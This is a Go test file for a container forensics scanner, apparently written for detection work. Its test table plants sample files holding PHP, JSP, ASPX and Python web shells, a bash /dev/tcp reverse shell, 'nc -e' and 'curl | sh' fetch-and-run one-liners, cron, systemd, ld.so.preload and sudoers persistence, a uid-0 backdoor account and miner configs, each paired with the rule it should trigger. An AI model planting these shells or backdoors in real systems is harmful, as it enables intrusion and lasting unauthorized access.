package scan

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ctrforensics/ctrforensics/forensic"
	"github.com/ctrforensics/ctrforensics/forensic/finding"
)

// planted is one file of a test tree and how it differs from the image.
type planted struct {
	path    string
	mode    os.FileMode // permission bits; setuid etc. via os.ModeSetuid
	content string
	change  forensic.Kind // "" = as in the image
	base    uint32        // the image's mode for a change
}

// scanTree writes files into a directory and scans it as a container whose
// changes are the files with a change, returning "RULE SEVERITY PATH" lines.
func scanTree(t *testing.T, files []planted, all bool) []string {
	t.Helper()
	root := t.TempDir()
	var changes []forensic.Change
	for _, f := range files {
		p := filepath.Join(root, f.path)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(f.content), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, f.mode); err != nil {
			t.Fatal(err)
		}
		if f.change != "" {
			c := forensic.Change{Kind: f.change, Path: f.path, Meta: &forensic.Metadata{Type: forensic.TypeFile, Mode: uint32(f.mode.Perm())}}
			if f.change == forensic.Changed {
				c.Base = &forensic.Metadata{Type: forensic.TypeFile, Mode: f.base}
			}
			changes = append(changes, c)
		}
	}
	in := ChangesInput(root, changes)
	if all {
		in = TreeInput(root, changes)
	}
	rep, err := Scan(context.Background(), in, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range rep.Findings {
		if f.Reason == "" || !strings.Contains(f.Reason, "") {
			t.Errorf("finding without a reason: %+v", f)
		}
		out = append(out, f.Rule+" "+f.Severity.String()+" "+f.Path)
	}
	return out
}

func TestRules(t *testing.T) {
	const added = forensic.Added
	tests := []struct {
		name string
		file planted
		want string // "" = no finding
		all  bool   // scan the whole tree, not only the changes
	}{
		// Web shells.
		{"article's shell", planted{"/var/www/html/shell.php", 0o644, "<?php eval($_GET['cmd']); ?>", added, 0}, "CTRF-FS-001 high /var/www/html/shell.php", false},
		{"system with POST", planted{"/var/www/html/x.php", 0o644, "<?php\n echo system( $_POST[\"c\"] );", added, 0}, "CTRF-FS-001 high /var/www/html/x.php", false},
		{"passthru of REQUEST", planted{"/var/www/a.phtml", 0o644, "<?php @passthru($_REQUEST['x']);", added, 0}, "CTRF-FS-001 high /var/www/a.phtml", false},
		{"assert of COOKIE", planted{"/var/www/a.php", 0o644, "<?php assert(stripslashes($_COOKIE['a']));", added, 0}, "CTRF-FS-001 high /var/www/a.php", false},
		{"variable function", planted{"/var/www/a.php", 0o644, "<?php $_GET['f']($_GET['a']);", added, 0}, "CTRF-FS-001 high /var/www/a.php", false},
		{"backticks", planted{"/var/www/a.php", 0o644, "<?php echo `$_GET[c]`;", added, 0}, "CTRF-FS-001 high /var/www/a.php", false},
		{"decode then eval", planted{"/var/www/a.php", 0o644, "<?php eval(gzinflate(base64_decode('SyvNSy0u')));", added, 0}, "CTRF-FS-001 high /var/www/a.php", false},
		{"preg_replace /e", planted{"/var/www/a.php", 0o644, "<?php preg_replace('/.*/e', $x, '');", added, 0}, "CTRF-FS-001 high /var/www/a.php", false},
		{"create_function", planted{"/var/www/a.php", 0o644, "<?php $f = create_function('', $_POST['code']); $f();", added, 0}, "CTRF-FS-001 high /var/www/a.php", false},
		{"JSP Runtime exec", planted{"/usr/local/tomcat/webapps/ROOT/cmd.jsp", 0o644, "<%\nString c = request.getParameter(\"cmd\");\nProcess p = Runtime.getRuntime().exec(c);\n%>", added, 0}, "CTRF-FS-001 high /usr/local/tomcat/webapps/ROOT/cmd.jsp", false},
		{"ASPX Process.Start", planted{"/inetpub/wwwroot/c.aspx", 0o644, "<% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]); %>", added, 0}, "CTRF-FS-001 high /inetpub/wwwroot/c.aspx", false},
		{"Python flask os.system", planted{"/app/views.py", 0o644, "@app.route('/x')\ndef x():\n    return os.popen(request.args.get('c')).read()\n", added, 0}, "CTRF-FS-001 high /app/views.py", false},
		{"benign: framework escaping input", planted{"/var/www/html/index.php", 0o644, "<?php echo htmlspecialchars($_GET['q']); $db->exec('SELECT 1'); $pdo->exec(\"DELETE FROM t WHERE id=\" . intval($_GET['id']));", added, 0}, "", false},
		{"benign: preg_replace without e", planted{"/var/www/a.php", 0o644, "<?php $s = preg_replace('/\\s+/i', ' ', $_POST['name']);", added, 0}, "", false},
		{"benign: eval of a constant", planted{"/var/www/a.php", 0o644, "<?php eval('return 1;'); $x = base64_decode($data);", added, 0}, "", false},
		{"benign: Python eval of a literal", planted{"/app/util.py", 0o644, "import ast\nx = ast.literal_eval(s)\nname = request.args.get('name')\n", added, 0}, "", false},
		{"benign: JSP without request", planted{"/app/a.jsp", 0o644, "<% Runtime.getRuntime().exec(\"/usr/bin/uptime\"); %>", added, 0}, "", false},
		{"benign: a shell text in a .txt", planted{"/var/www/notes.txt", 0o644, "eval($_GET['cmd'])", added, 0}, "", false},

		// Executables in temporary and hidden directories.
		{"ELF in /tmp", planted{"/tmp/kworker", 0o755, "\x7fELF\x02\x01\x01\x00", added, 0}, "CTRF-FS-002 high /tmp/kworker", false},
		{"ELF in /dev/shm", planted{"/dev/shm/x", 0o644, "\x7fELF\x02\x01\x01\x00", added, 0}, "CTRF-FS-002 high /dev/shm/x", false},
		{"script in /var/tmp", planted{"/var/tmp/a", 0o755, "#!/bin/sh\nid\n", added, 0}, "CTRF-FS-002 medium /var/tmp/a", false},
		{"ELF below a dot dir", planted{"/usr/lib/.cache/x", 0o755, "\x7fELF\x02", added, 0}, "CTRF-FS-002 high /usr/lib/.cache/x", false},
		{"ELF below ...", planted{"/var/.../bin", 0o755, "\x7fELF\x02", added, 0}, "CTRF-FS-002 high /var/.../bin", false},
		{"ELF named by spaces", planted{"/usr/bin/  ", 0o755, "\x7fELF\x02", added, 0}, "CTRF-FS-002 high /usr/bin/  ", false},
		{"benign: text in /tmp", planted{"/tmp/notes", 0o644, "hello\n", added, 0}, "", false},
		{"benign: dot file not executable", planted{"/root/.bashrc2", 0o644, "alias ll='ls -l'\n", added, 0}, "", false},
		{"benign: ELF in /usr/bin", planted{"/usr/bin/tool", 0o755, "\x7fELF\x02", added, 0}, "", false},

		// Setuid, capabilities.
		{"new setuid file", planted{"/usr/local/bin/helper", 0o755 | os.ModeSetuid, "x", added, 0}, "CTRF-FS-003 high /usr/local/bin/helper", false},
		{"became setgid", planted{"/usr/bin/tool", 0o755 | os.ModeSetgid, "x", forensic.Changed, 0o755}, "CTRF-FS-003 high /usr/bin/tool", false},
		{"benign: setuid passwd from the image", planted{"/usr/bin/passwd", 0o755 | os.ModeSetuid, "x", "", 0}, "", true},
		{"benign: setuid kept, content changed", planted{"/usr/bin/passwd", 0o755 | os.ModeSetuid, "x", forensic.Changed, 0o4755}, "", false},
		{"setuid shell from the image", planted{"/bin/bash", 0o755 | os.ModeSetuid, "x", "", 0}, "CTRF-FS-005 high /bin/bash", true},

		// Persistence.
		{"new cron job", planted{"/etc/cron.d/update", 0o644, "* * * * * root /tmp/x\n", added, 0}, "CTRF-FS-006 medium /etc/cron.d/update", false},
		{"spool crontab", planted{"/var/spool/cron/crontabs/root", 0o600, "@reboot /x\n", added, 0}, "CTRF-FS-006 medium /var/spool/cron/crontabs/root", false},
		{"systemd unit", planted{"/etc/systemd/system/x.service", 0o644, "[Service]\nExecStart=/x\n", added, 0}, "CTRF-FS-006 medium /etc/systemd/system/x.service", false},
		{"rc.local", planted{"/etc/rc.local", 0o755, "/x &\n", forensic.Changed, 0o755}, "CTRF-FS-006 medium /etc/rc.local", false},
		{"profile.d", planted{"/etc/profile.d/z.sh", 0o644, "export A=1\n", added, 0}, "CTRF-FS-006 medium /etc/profile.d/z.sh", false},
		{"bashrc", planted{"/root/.bashrc", 0o644, "alias sudo='x'\n", forensic.Changed, 0o644}, "CTRF-FS-006 medium /root/.bashrc", false},
		{"ld.so.preload", planted{"/etc/ld.so.preload", 0o644, "/lib/libx.so\n", added, 0}, "CTRF-FS-006 high /etc/ld.so.preload", false},
		{"ld.so.preload in the image", planted{"/etc/ld.so.preload", 0o644, "/lib/libx.so\n", "", 0}, "CTRF-FS-006 high /etc/ld.so.preload", true},
		{"authorized_keys", planted{"/root/.ssh/authorized_keys", 0o600, "ssh-ed25519 AAAA x\n", added, 0}, "CTRF-FS-006 medium /root/.ssh/authorized_keys", false},
		{"sudoers.d", planted{"/etc/sudoers.d/x", 0o440, "x ALL=(ALL) NOPASSWD: ALL\n", added, 0}, "CTRF-FS-006 high /etc/sudoers.d/x", false},
		{"benign: the package's own cron file", planted{"/etc/cron.daily/dpkg", 0o755, "#!/bin/sh\ndpkg --audit\n", "", 0}, "", true},
		{"benign: the image's bashrc", planted{"/etc/bash.bashrc", 0o644, "PS1='$ '\n", "", 0}, "", true},

		// Accounts.
		{"uid 0 user", planted{"/etc/passwd", 0o644, "root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n", forensic.Changed, 0o644}, "CTRF-FS-007 high /etc/passwd", false},
		{"benign: root only", planted{"/etc/passwd", 0o644, "root:x:0:0:root:/root:/bin/sh\nbin:x:1:1::/bin:/sbin/nologin\n", forensic.Changed, 0o644}, "", false},
		{"empty hash", planted{"/etc/shadow", 0o640, "root::19000:0:99999:7:::\n", forensic.Changed, 0o640}, "CTRF-FS-008 high /etc/shadow", false},
		{"empty hash in the image", planted{"/etc/shadow", 0o640, "root::19000:0:99999:7:::\n", "", 0}, "CTRF-FS-008 medium /etc/shadow", true},
		{"benign: locked accounts", planted{"/etc/shadow", 0o640, "root:*:19000:0:99999:7:::\nbin:!:19000::::::\n", forensic.Changed, 0o640}, "", false},

		// One-liners and miners.
		{"bash reverse shell", planted{"/opt/x.sh", 0o755, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", added, 0}, "CTRF-FS-009 high /opt/x.sh", false},
		{"nc -e", planted{"/opt/y", 0o644, "nc 10.0.0.1 4444 -e /bin/sh\n", added, 0}, "CTRF-FS-009 high /opt/y", false},
		{"curl | sh", planted{"/opt/z", 0o644, "curl -fsSL http://evil/x.sh | sh\n", added, 0}, "CTRF-FS-009 high /opt/z", false},
		{"wget | bash in the image", planted{"/usr/local/bin/init", 0o644, "wget -qO- http://x/y | bash\n", "", 0}, "CTRF-FS-009 high /usr/local/bin/init", true},
		{"benign: curl to a file", planted{"/opt/get.sh", 0o644, "curl -o /tmp/x http://x/y && sha256sum -c sums\n", added, 0}, "", false},
		{"benign: nc -z", planted{"/opt/wait.sh", 0o644, "nc -z db 5432\n", added, 0}, "", false},
		{"pool URL", planted{"/opt/c.json", 0o644, `{"url": "stratum+tcp://pool.minexmr.com:4444"}`, added, 0}, "CTRF-FS-010 high /opt/c.json", false},
		{"xmrig config", planted{"/opt/config.json", 0o644, `{"donate-level": 1, "pools": [{"url": "x:3333"}]}`, added, 0}, "CTRF-FS-010 high /opt/config.json", false},
		{"benign: pools without donate-level", planted{"/opt/db.json", 0o644, `{"pools": [{"name": "primary"}]}`, added, 0}, "", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := strings.Join(scanTree(t, []planted{tc.file}, tc.all), "; ")
			if got != tc.want {
				t.Errorf("findings %q, want %q", got, tc.want)
			}
		})
	}
}

func TestRulesHaveHelp(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r.ID] || !strings.HasPrefix(r.ID, "CTRF-FS-") || r.Help == "" || r.Title == "" || r.Severity < finding.Low {
			t.Errorf("bad rule %+v", r)
		}
		seen[r.ID] = true
	}
}

// TestReasonAsWritten: a reason quotes the evidence as the file has it:
// quotes and backslashes unescaped, white space runs (newlines included)
// made one space.
func TestReasonAsWritten(t *testing.T) {
	root := t.TempDir()
	p := filepath.Join(root, "x.php")
	if err := os.WriteFile(p, []byte("<?php\n echo system( $_POST[\"c\"] . \"\\x65\");\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	changes := []forensic.Change{{Kind: forensic.Added, Path: "/x.php", Meta: &forensic.Metadata{Type: forensic.TypeFile, Mode: 0o644}}}
	rep, err := Scan(context.Background(), ChangesInput(root, changes), Options{})
	if err != nil {
		t.Fatal(err)
	}
	want := `PHP file passes request input or decoded data to execution: echo system( $_POST["c"] . "\x65");`
	if len(rep.Findings) != 1 || rep.Findings[0].Reason != want {
		t.Errorf("findings %+v, want the reason %s", rep.Findings, want)
	}
}
